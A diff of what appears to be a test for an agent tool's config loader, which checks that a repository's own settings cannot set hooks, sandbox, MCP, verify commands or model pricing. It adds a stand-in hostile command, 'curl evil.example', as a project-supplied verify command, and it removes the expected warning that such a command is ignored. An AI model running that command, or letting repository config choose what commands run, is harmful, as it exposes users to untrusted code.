@@ -282,7 +282,9 @@ context = 50000
         models=(ModelSettings(id="claude-opus-5-5", context=50_000),),
         origin=settings.origin,
         warnings=settings.warnings,
+        offered_verify=("curl evil.example", settings.offered_verify[1]),
     )
+    assert house.short(settings.offered_verify[1]) == "PROJECT:1"
     own = "set it in your own config.toml."
     asks, runs = "what runs without asking", "commands to run"
     where = "a repository may not decide where requests go or what they cost."
@@ -293,7 +295,6 @@ context = 50000
         f"PROJECT:14: sandbox is ignored: a repository may not decide {asks}; {own}",
         f"PROJECT:10: hooks is ignored: a repository may not decide {runs}; {own}",
         f"PROJECT:12: mcp is ignored: a repository may not decide {runs}; {own}",
-        f"PROJECT:1: verify is ignored: a repository may not decide {runs}; {own}",
         f"PROJECT:20: models[0].price is ignored: {where}",
         f"PROJECT:18: models[0].provider is ignored: {where}",
         f"PROJECT:19: models[0].name is ignored: {where}",
